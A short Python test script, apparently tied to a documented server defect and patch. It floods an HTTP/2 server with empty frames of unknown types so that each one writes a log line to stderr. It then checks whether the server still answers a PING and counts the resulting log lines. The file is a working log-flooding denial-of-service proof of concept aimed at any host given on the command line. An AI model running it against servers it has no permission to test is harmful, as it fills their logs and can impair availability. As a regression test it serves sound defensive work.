#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Defect 6 of the field notes: one HTTP/2 client fills the server's stderr (patch 003).

Each frame of an unknown type, nine bytes, is a line "skipping frame (type:N)".
Whoever holds the server's stderr counts the lines: see lines()."""

import argparse
import struct
import sys

from rawh2 import Closed, Connection, Outcome

FIRST_UNKNOWN_TYPE = 0x0a       # RFC 7540 ends at 9, CONTINUATION


def attack(host, port, frames=1000, timeout_s=10.0, tls=None):
    """Sends that many empty frames of unknown types, in turn. Survived: a PING
    behind them is answered; nothing is said about stderr."""
    types = range(FIRST_UNKNOWN_TYPE, 0x100)
    junk = b"".join(struct.pack(">BHBBL", 0, 0, types[i % len(types)], 0, 0)
                    for i in range(frames))
    try:
        with Connection(host, port, timeout_s=timeout_s, tls=tls) as conn:
            conn.send(junk)
            if not conn.ping():
                return Outcome(False, "no answer to PING in %g s" % timeout_s)
    except Closed as e:
        return Outcome(False, "connection lost (%s)" % e)
    return Outcome(True, "%d frames discarded" % frames, {"frames": frames})


def lines(stderr_text):
    """How many lines of a server's stderr come from this defect."""
    return stderr_text.count("skipping frame")


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--frames", type=int, default=1000)
    args = ap.parse_args()
    outcome = attack(args.host, args.port, args.frames)
    print(outcome)
    return 0 if outcome.survived else 1


if __name__ == "__main__":
    sys.exit(main())
